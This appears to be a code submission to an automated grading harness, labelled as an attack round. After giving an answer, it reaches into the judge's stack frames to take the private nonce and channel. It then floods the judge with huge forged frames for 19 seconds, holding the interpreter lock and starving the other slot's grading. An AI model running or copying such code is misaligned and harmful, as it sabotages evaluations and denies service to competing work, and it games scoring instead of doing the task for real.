# Attack round 15: the judge parses every message that carries the load's nonce in the grading thread, holding
# the interpreter lock for the whole parse.  A worker that writes 16 MB frames of escaped text as fast as the
# socket takes them (its unit "event" keeps the judge's per-unit timer re-armed) keeps the judge's lock for
# its whole time budget: the other slot's grading thread runs in the gaps.
q1_answer = "C"

import json
import struct
import sys
import time

_frame = sys._getframe()
while _frame is not None and _frame.f_code.co_name != "serve":
    _frame = _frame.f_back
_nonce, _channel = _frame.f_locals["nonce"], _frame.f_locals["channel"]
_payload = json.dumps({"event": "unit", "index": 0, "nonce": _nonce,
                       "pad": "\u00e9" * 2_600_000}, ensure_ascii=True).encode()
_message = struct.pack(">I32s", len(_payload), _nonce.encode()) + _payload
_end = time.monotonic() + 19
while time.monotonic() < _end:
    _channel._sendall(_message)
